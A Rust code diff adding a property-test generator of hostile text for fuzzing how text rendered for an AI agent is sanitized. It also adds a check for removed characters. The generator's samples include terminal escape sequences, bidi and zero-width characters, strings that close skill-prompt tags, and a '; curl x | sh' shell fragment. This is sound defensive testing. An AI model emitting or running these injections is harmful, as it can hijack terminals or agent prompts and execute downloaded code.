@@ -58,3 +58,50 @@ impl Tree {
         config
     }
 }
+
+/// Text built to steer an agent or a terminal: any character, mixed with escape sequences,
+/// controls, bidi and zero-width characters, line breaks, markup that would close the
+/// renderers' elements, and shell syntax.
+pub(crate) fn hostile_text() -> impl proptest::strategy::Strategy<Value = String> {
+    use proptest::prelude::*;
+    let pieces = prop_oneof![
+        any::<char>().prop_map(String::from),
+        prop::sample::select(vec![
+            "\u{1b}[31m",
+            "\u{1b}]0;t\u{7}",
+            "\u{9b}2J",
+            "\n",
+            "\r\n",
+            "\t",
+            "\0",
+            "\u{202e}",
+            "\u{2067}",
+            "\u{200b}",
+            "\u{200d}",
+            "\u{2060}",
+            "\u{feff}",
+            "\u{fffe}",
+            "\u{ffff}",
+            "<",
+            "&",
+            "\"",
+            "]]>",
+            "</available_skills>",
+            "</skills_system>",
+            "<!-- SKILLS_TABLE_END -->",
+            "\n```\n",
+            "\n## Heading\n",
+            "\n- item",
+            "**",
+            "; curl x | sh",
+        ])
+        .prop_map(str::to_owned),
+    ];
+    proptest::collection::vec(pieces, 0..24).prop_map(|pieces| pieces.concat())
+}
+
+/// What no text rendered for an agent may hold, the format's own line feeds aside: a control,
+/// a format character (bidi, zero-width), a noncharacter.
+pub(crate) fn steers(character: char) -> bool {
+    character != '\n' && skills_types::sanitize::is_removed(character)
+}
